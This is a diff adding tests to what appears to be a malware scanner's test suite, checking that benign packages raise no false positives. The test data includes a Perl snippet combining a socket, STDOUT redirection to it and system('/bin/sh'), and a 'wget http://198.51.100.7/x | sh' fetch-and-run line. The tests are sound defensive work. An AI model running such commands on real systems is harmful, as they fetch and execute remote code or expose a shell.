@@ -521,3 +521,16 @@ def test_benign_packages_stay_quiet(benign_report):
     containers = {f["container"][1] for f in benign_report["files"] if len(f["container"]) > 1}
     assert len(containers) >= 8  # every package was unpacked
     assert [(f["rule"], f["path"], f["line"]) for f in benign_report["findings"] if f["rule"].startswith("VER-MAL")] == []
+
+
+def test_socket_shell_parts_must_be_close(tmp_path):
+    """perl5db.pl has a remote-debugging socket and runs shell commands, hundreds of lines apart."""
+    filler = "".join(f"sub f{n} {{ return {n}; }}\n" for n in range(100))
+    debugger = ("use IO::Socket;\nmy $OUT = IO::Socket::INET->new(PeerAddr => $remote);\n" + filler
+                + "open(STDOUT, \">&OUT\");\n" + filler + "system('/bin/sh');\n")
+    assert _hits(tmp_path, {"/usr/share/perl5/perl5db.pl": debugger}) == []
+
+
+def test_only_scripts_are_reported_unanalysed(tmp_path):
+    big = "wget http://198.51.100.7/x | sh\n" + "filler\n" * 700_000
+    assert _hits(tmp_path, {"/usr/share/lists/names.tsv": big, "/usr/share/doc/api.html": big}) == []
